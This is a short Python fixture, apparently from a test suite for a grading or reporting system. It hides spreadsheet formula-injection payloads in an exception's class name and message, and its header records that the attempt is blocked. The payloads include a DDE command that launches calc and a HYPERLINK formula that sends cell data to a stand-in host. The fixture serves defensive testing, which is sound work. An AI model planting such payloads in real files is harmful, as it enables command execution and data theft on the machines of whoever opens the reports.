# /// attack
# tries = "a formula in a spreadsheet, by names of functions and types"
# layer = "reports"
# stopped_by = "names of a submission stand in no table"
# statuses = { scale = "raised" }
# ///
def scale(x):
    raise type("=cmd|'/c calc'!A1", (ValueError,), {})("=HYPERLINK(\"//192.0.2.1/?\"&A1;\"see\")\n+1+1\n@SUM(1)\n-1")
